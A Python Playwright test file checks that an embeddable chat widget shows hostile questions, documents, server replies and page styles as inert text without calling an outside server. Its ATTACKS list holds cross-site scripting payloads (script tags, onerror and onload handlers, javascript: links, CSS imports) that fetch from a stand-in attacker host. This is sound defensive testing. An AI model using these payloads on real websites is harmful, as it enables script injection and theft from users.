"""Texts that attack the widget stay texts, and a page whose style attacks it leaves it usable."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect
from ui_support import environment, running_server
from widget_support import CONTACT, HOSTILE_STYLE, Answering, Embedding, Site, serving_site
from widget_visit import OpenWidget, WidgetVisit

QUESTION = "Was kostet die Beratung durch die Musterstelle?"
ATTACKS = [
    "<script src={evil}/1></script><script>fetch('{evil}/2')</script>",
    "<img src={evil}/3 onerror=fetch('{evil}/4')>",
    "<svg onload=fetch('{evil}/5')><image href={evil}/6></svg>",
    "![Bild]({evil}/7) [Verweis][r]\n[r]: {evil}/8",
    "[Verweis](javascript:fetch('{evil}/9')) <a href=javascript:fetch('{evil}/10')>x</a>",
    '<form action="{evil}/11"><input autofocus onfocus=fetch("{evil}/12")></form>',
    '<div style="position:fixed;inset:0;background:url({evil}/13)">Maske</div><style>@import "{evil}/14";</style>',
    "<iframe src={evil}/15></iframe><link rel=stylesheet href={evil}/16>",
    "<meta http-equiv=refresh content='0;{evil}/17'> {seconds} {marker}",
    "$$\\href{{{evil}/18}}{{x}}$$ ```mermaid\nclick A \"{evil}/19\"\n``` {{{{constructor}}}} ${{alert(20)}}",
    "data:text/html,<script>fetch('{evil}/21')</script> \u202eumgekehrt\u202c",
]  # fmt: skip
ELEMENTS = "img, script, form form, iframe, svg, style, link, meta, object, embed, input, [onerror], [onload], [style]"


@pytest.fixture
def evil() -> Iterator[Site]:
    """A server that counts who calls it."""
    with serving_site() as running:
        yield running


@pytest.fixture
def attack(evil: Site) -> str:
    """Every attack, calling that server."""
    return " ".join(attack.format(evil=evil.url, seconds="{seconds}", marker="{marker}") for attack in ATTACKS)


def assert_inert(visit: WidgetVisit, evil: Site) -> None:
    """Nothing of an attack has become part of the page or called anybody."""
    # A click on everything that could be clicked without leaving the page.
    for mark in visit.widget.locator(".mark").all():
        mark.click()
    assert visit.widget.locator(".root").locator(ELEMENTS).count() == 0
    addresses = visit.widget.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert all(address.startswith(("http://", f"mailto:{CONTACT.mail}")) for address in addresses)
    assert evil.requests == []


def test_hostile_questions_and_documents_stay_texts(
    open_widget: OpenWidget,
    build_index: Callable[[Path], Path],
    site: Site,
    evil: Site,
    attack: str,
    tmp_path: Path,
) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    text = f"Der Hebesatz der Grundsteuer B beträgt 420 vom Hundert {' '.join(attack.split())}."
    line = {"id": attack[:200], "title": attack, "text": text, "url": "javascript:alert(7)", "stand": attack[:200]}
    (corpus / "documents.jsonl").write_text(json.dumps(line), encoding="utf-8")
    variables = environment(SERVER_EMBED=site.url, QUESTION_LIMIT="20000")
    with running_server(build_index(corpus), tmp_path, variables=variables) as server:
        site.embed(server.url)  # without a policy: the widget has to hold alone
        visit = open_widget(site.url)
        dialogs: list[str] = []
        visit.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        visit.ask("Wie hoch ist der Hebesatz der Grundsteuer B?")
        expect(visit.reply.get_by_role("listitem").first).to_contain_text("<script src=")
        visit.ask(attack)

        expect(visit.widget.locator(".question").last).to_contain_text("onerror=fetch")
        assert_inert(visit, evil)
        assert dialogs == []
        assert visit.complaints == []


def test_a_hostile_server_can_only_say_things(open_widget: OpenWidget, faulty: Site, evil: Site, attack: str) -> None:
    citation = {
        "marker": 1, "document": "../../" + attack, "title": attack, "start": 0, "end": 5, "quote": attack,
        "section": [attack], "pages": [{"number": attack, "label": attack, "boxes": []}],
        "url": f"data:text/html,{attack}", "stand": attack, "notice": attack,
    }  # fmt: skip
    sentence = {"text": attack, "citations": [1], "support": "verbatim"}
    answer = {
        "status": "declined", "mode": attack, "answer": attack, "confidence": 0.9, "note": attack,
        "sentences": [sentence], "citations": [citation], "suggestions": [attack],
    }  # fmt: skip

    def told(request: Answering) -> None:
        request.head(200, "text/event-stream")
        request.tell(("sentence", {**sentence, "new_citations": [citation]}), ("done", answer))

    def refused(request: Answering) -> None:
        request.head(422, "application/json")
        request.wfile.write(json.dumps({"error": {"code": attack, "message": attack[:300]}}).encode())

    faulty.posts += [told, refused]
    words = json.dumps({"ask": attack[:90], "pending": attack, "verbatim": attack}).replace("<", "\\u003c")
    faulty.embed(faulty.url, inside=f'<script type="application/json">{words}</script>', attributes="")
    visit = open_widget(faulty.url)
    visit.page.evaluate("attack => document.querySelector('fundstelle-chat').setAttribute('heading', attack)", attack)
    visit.ask(QUESTION)
    expect(visit.reply).to_contain_text("onerror=fetch")
    visit.ask_for_trouble(QUESTION)

    expect(visit.reply.locator(".error")).to_contain_text("<script")
    assert_inert(visit, evil)
    # The page's own JSON is the only script.
    assert visit.page.evaluate("document.querySelectorAll('script').length") == 2


def test_a_hostile_style_leaves_it_readable_and_usable(open_widget: OpenWidget, embedding: Embedding) -> None:
    embedding.site.pages["/site.css"] = HOSTILE_STYLE
    visit = open_widget(embedding.site.url)
    visit.ask(QUESTION)
    looks = "(element => (s => [s.visibility, s.direction, s.letterSpacing, s.fontSize])(getComputedStyle(element)))"

    expect(visit.reply).to_contain_text("für Gemeinden kostenlos")
    assert visit.reply.locator(".text").evaluate(looks) == ["visible", "ltr", "normal", "16px"]
    host = "element => { const s = getComputedStyle(element); return [s.opacity, s.filter, s.transform, s.clipPath]; }"
    assert visit.widget.evaluate(host) == ["1", "none", "none", "none"]
    visit.button("Neues Gespräch").click()
    expect(visit.box).to_be_focused()


def test_the_page_may_hide_and_place_the_widget(open_widget: OpenWidget, embedding: Embedding) -> None:
    embedding.site.pages["/site.css"] = (
        "fundstelle-chat { max-width: 300px; --fundstelle-accent: rgb(1, 2, 3) }"
        "fundstelle-chat::part(heading) { text-decoration: underline }"
    )
    visit = open_widget(embedding.site.url)
    assert visit.widget.evaluate("element => element.offsetWidth") == 300
    heading = visit.widget.get_by_role("heading")
    style = "element => [getComputedStyle(element).color, getComputedStyle(element).textDecorationLine]"
    assert heading.evaluate(style) == ["rgb(1, 2, 3)", "underline"]

    visit.page.evaluate("document.querySelector('fundstelle-chat').hidden = true")
    expect(visit.widget).to_be_hidden()
